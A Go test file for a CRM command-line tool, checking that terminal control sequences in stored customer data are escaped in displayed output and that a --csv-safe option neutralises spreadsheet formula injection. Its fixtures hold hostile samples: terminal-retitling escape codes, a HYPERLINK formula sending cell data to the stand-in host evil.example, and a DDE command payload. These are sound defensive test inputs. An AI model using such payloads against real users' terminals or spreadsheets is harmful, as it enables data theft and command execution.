package cmd_test

import (
	"database/sql"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// hostile is a customer name that retitles and clears a terminal, with a
// right-to-left override and an 8-bit CSI for good measure.
const hostile = "Evil \x1b]0;pwned\a\x1b[2J Co \u202eexe.txt\u009b"

// hostileShown is how people see it: every control character escaped.
const hostileShown = `Evil \x1b]0;pwned\x07\x1b[2J Co \u202eexe.txt\u009b`

// noControls fails when s carries a byte or character that a terminal would
// act on (C0 except LF, DEL, C1, bidi overrides).
func noControls(t *testing.T, what, s string) {
	t.Helper()
	for i, r := range s {
		if (r < 0x20 && r != '\n') || r == 0x7f || (r >= 0x80 && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
			t.Errorf("%s: control character %U at byte %d reaches the terminal:\n%q", what, r, i, s)
			return
		}
	}
}

// hostileBook is a book whose customer EV1 has the hostile name and note and
// whose complaint 1 has a hostile text. They are written behind crm's back
// (a database from an older crm, or edited with another SQLite tool), so the
// test does not depend on what input validation refuses.
func hostileBook(t *testing.T) {
	t.Helper()
	must(t, "customer", "add", "placeholder", "--code", "EV1", "--note", "placeholder")
	must(t, "order", "add", "EV1", "1000", "--id", "INV-1", "--date", "2026-09-01")
	must(t, "complaint", "log", "EV1", "--category", "delivery", "--text", "placeholder", "--date", "2026-11-01")
	sdb, err := sql.Open("sqlite", "file:"+testDB(t))
	if err != nil {
		t.Fatal(err)
	}
	defer sdb.Close()
	for _, q := range []string{
		"UPDATE customers SET name = ?1, note = ?1 WHERE code = 'EV1'",
		"UPDATE complaints SET text = ?1",
	} {
		if _, err := sdb.Exec(q, hostile); err != nil {
			t.Fatal(err)
		}
	}
}

// TestHostileTextIsEscaped: tables, record views, the notice letter,
// confirmations and error messages show control characters escaped; CSV and
// JSON keep the exact bytes.
func TestHostileTextIsEscaped(t *testing.T) {
	hostileBook(t)
	for _, tc := range []struct {
		args []string
		code int
	}{
		{[]string{"customer", "list"}, 0},
		{[]string{"customer", "list", "--lang", "zh"}, 0},
		{[]string{"customer", "show", "EV1"}, 0},
		{[]string{"complaint", "list"}, 0},
		{[]string{"complaint", "show", "1"}, 0},
		{[]string{"credit", "notice", "EV1"}, 0},
		{[]string{"credit", "notice", "EV1", "--lang", "zh"}, 0},
		// A confirmation on stderr that names the customer.
		{[]string{"complaint", "log", "EV1", "--category", "billing", "--text", "again", "--date", "2026-11-02"}, 0},
		// An error that lists close matches.
		{[]string{"customer", "show", "Evil"}, 1},
		// A usage error that echoes the argument.
		{[]string{"customer", "list", "--\x1b]0;pwned\a"}, 2},
	} {
		out, errOut, code := runCLI(t, "", tc.args...)
		name := strings.Join(tc.args, " ")
		if code != tc.code {
			t.Fatalf("crm %q: exit %d, want %d\n%s", name, code, tc.code, errOut)
		}
		noControls(t, "stdout of crm "+name, out)
		noControls(t, "stderr of crm "+name, errOut)
		if tc.code == 0 && !strings.Contains(out+errOut, `\x1b]0;pwned\x07\x1b[2J`) {
			t.Errorf("crm %q does not show the name escaped:\n%s%s", name, out, errOut)
		}
	}
	_, errOut, _ := runCLI(t, "", "customer", "show", "Evil")
	if !strings.Contains(errOut, "EV1 ("+hostileShown+")") {
		t.Errorf("error message: %q", errOut)
	}

	// Machine formats are data: the exact bytes.
	for _, args := range [][]string{
		{"customer", "list", "--format", "csv"},
		{"customer", "show", "EV1", "--format", "csv"},
		{"credit", "notice", "EV1", "--format", "csv"},
	} {
		if out := must(t, args...); !strings.Contains(out, hostile) {
			t.Errorf("crm %s changed the data:\n%q", strings.Join(args, " "), out)
		}
	}
	for _, tc := range []struct {
		args []string
		key  string
	}{
		{[]string{"customer", "show", "EV1", "--format", "json"}, "name"},
		{[]string{"customer", "show", "EV1", "--format", "json"}, "note"},
		{[]string{"complaint", "show", "1", "--format", "json"}, "customer_name"},
		{[]string{"complaint", "show", "1", "--format", "json"}, "text"},
		{[]string{"credit", "notice", "EV1", "--format", "json"}, "name"},
	} {
		var obj map[string]any
		if err := json.Unmarshal([]byte(must(t, tc.args...)), &obj); err != nil {
			t.Fatal(err)
		}
		if obj[tc.key] != hostile {
			t.Errorf("crm %s: %s = %q, want %q", strings.Join(tc.args, " "), tc.key, obj[tc.key], hostile)
		}
	}
	var list []map[string]any
	if err := json.Unmarshal([]byte(must(t, "customer", "list", "--format", "json")), &list); err != nil {
		t.Fatal(err)
	}
	if len(list) != 1 || list[0]["name"] != hostile {
		t.Errorf("customer list --format json: %v", list)
	}
}

// TestCSVSafe: --csv-safe (or CRM_CSV_SAFE, or csv-safe in the config file)
// makes CSV for spreadsheets: a text cell that would run as a formula gets a
// leading ', every field is quoted, numbers and money stay numbers. Without
// it CSV is the data as stored; JSON is the same either way.
func TestCSVSafe(t *testing.T) {
	link := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	must(t, "customer", "add", link, "--code", "X1", "--phone", "+86 138 0000 0000", "--note", "@SUM(A1:A9)")
	must(t, "order", "add", "X1", "--id", "RET-1", "--date", "2026-11-02", "--note", "-2+3+cmd|' /C calc'!A0", "--", "-12.50")

	plain := parseCSV(t, must(t, "customer", "list", "--format", "csv")).find(t, "code", "X1")
	eq(t, "name without --csv-safe", plain["name"], link)
	eq(t, "phone without --csv-safe", plain["phone"], "+86 138 0000 0000")

	safeOut := must(t, "customer", "list", "--format", "csv", "--csv-safe")
	if !strings.HasPrefix(safeOut, `"id","code","name",`) {
		t.Errorf("--csv-safe does not quote every field:\n%s", safeOut)
	}
	safe := parseCSV(t, safeOut).find(t, "code", "X1")
	eq(t, "name with --csv-safe", safe["name"], "'"+link)
	eq(t, "phone with --csv-safe", safe["phone"], "'+86 138 0000 0000")

	show := parseCSV(t, must(t, "customer", "show", "X1", "--format", "csv", "--csv-safe")).Rows[0]
	eq(t, "customer show note", show["note"], "'@SUM(A1:A9)")
	eq(t, "customer show terms", show["terms_days"], "30")

	ord := parseCSV(t, must(t, "order", "list", "--format", "csv", "--csv-safe")).find(t, "order_id", "RET-1")
	eq(t, "negative amount", ord["amount"], "-12.50")
	eq(t, "order note", ord["note"], "'-2+3+cmd|' /C calc'!A0")

	// The same from the environment and from the config file.
	t.Setenv("CRM_CSV_SAFE", "true")
	eq(t, "CRM_CSV_SAFE", parseCSV(t, must(t, "customer", "list", "--format", "csv")).find(t, "code", "X1")["name"], "'"+link)
	eq(t, "--csv-safe=false over CRM_CSV_SAFE", parseCSV(t, must(t, "customer", "list", "--format", "csv", "--csv-safe=false")).find(t, "code", "X1")["name"], link)
	os.Unsetenv("CRM_CSV_SAFE")
	cfg := filepath.Join(os.Getenv("XDG_CONFIG_HOME"), "crm", "config.yaml")
	if err := os.MkdirAll(filepath.Dir(cfg), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(cfg, []byte("csv-safe: true\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	eq(t, "config csv-safe", parseCSV(t, must(t, "customer", "list", "--format", "csv")).find(t, "code", "X1")["name"], "'"+link)
	eq(t, "config show", parseCSV(t, must(t, "config", "show", "--format", "csv")).find(t, "key", "csv-safe")["value"], "true")

	// JSON is data: the same bytes with or without.
	j1 := must(t, "customer", "list", "--format", "json")
	j2 := must(t, "customer", "list", "--format", "json", "--csv-safe")
	if j1 != j2 || !strings.Contains(j1, `"name": "=HYPERLINK(`) {
		t.Errorf("--csv-safe changed JSON:\n%s\n%s", j1, j2)
	}
}
